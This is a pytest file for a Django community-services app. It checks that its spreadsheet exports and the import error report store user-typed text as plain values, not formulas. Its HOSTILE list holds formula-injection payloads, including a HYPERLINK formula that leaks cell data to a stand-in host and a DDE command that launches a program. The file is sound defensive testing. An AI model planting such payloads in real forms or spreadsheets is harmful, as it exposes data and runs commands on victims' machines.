"""Every sheet Linli writes holds what people typed as text, never as a formula: a description
planted through the public form as `=HYPERLINK(…)` must not run in a worker's spreadsheet."""

import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from linli.core.actions import do_record_pii_access
from linli.core.models import Community, Compound, User
from linli.core.policy import SYSTEM
from linli.ledger.actions import do_complete, do_open_request
from linli.ledger.models import Category, Channel
from linli.people.importer import error_report_xlsx
from linli.people.models import Vulnerability
from tests.factories import make_resident

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
]


def formulas(content: bytes) -> list[tuple[str, Any]]:
    """Every cell of every sheet that a spreadsheet program would evaluate."""
    book = load_workbook(io.BytesIO(content))
    return [
        (cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.fixture
def planted(community_a: Community, worker_a: User) -> None:
    """Hostile text in every free-text field that reaches an export."""
    community_a.head = worker_a
    community_a.save(update_fields=["head"])
    for n, text in enumerate(HOSTILE):
        resident = make_resident(
            community_a, text, phone=f"1380000{n:04d}", id_number="", room=str(101 + n)
        )
        Vulnerability.objects.create(
            community=community_a, resident=resident, kind="alone", since="2026-01-01"
        )
        opened = do_open_request(
            community_a,
            actor=SYSTEM,
            channel=Channel.ONLINE,
            category=Category.objects.get(code="other"),
            description=text,
            address_text=text,
            household=resident.household,
        ).request
        opened.assignee = worker_a
        opened.status = "assigned"
        opened.save(update_fields=["assignee", "status"])
        do_complete(opened, actor=worker_a, result=text)
        do_record_pii_access(resident, actor=worker_a, community=community_a, fields=[text])
    Compound.objects.filter(community=community_a).update(name=HOSTILE[0])


@pytest.mark.usefixtures("planted")
@pytest.mark.parametrize(
    "url",
    [
        "ledger:export",
        "people:export-register",
        "people:export-vulnerable",
        "people:export-counts",
        "core:pii-log-export",
    ],
)
def test_exports_write_what_people_typed_as_text(client: Client, worker_a: User, url: str) -> None:
    client.force_login(worker_a)
    response = client.get(reverse(url))
    assert response.status_code == 200
    content = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    found = formulas(content)
    assert not found, f"{url} writes formulas: {found}"
    assert any(HOSTILE[0] in str(v) for v in _values(content)) or url.endswith("counts")


def test_the_import_error_report_writes_the_values_it_quotes_as_text() -> None:
    content = error_report_xlsx(
        [[5, "姓名", f"not a name: {text}"] for text in HOSTILE] + [[6, "电话", HOSTILE[0]]]
    )
    assert not formulas(content)


def _values(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
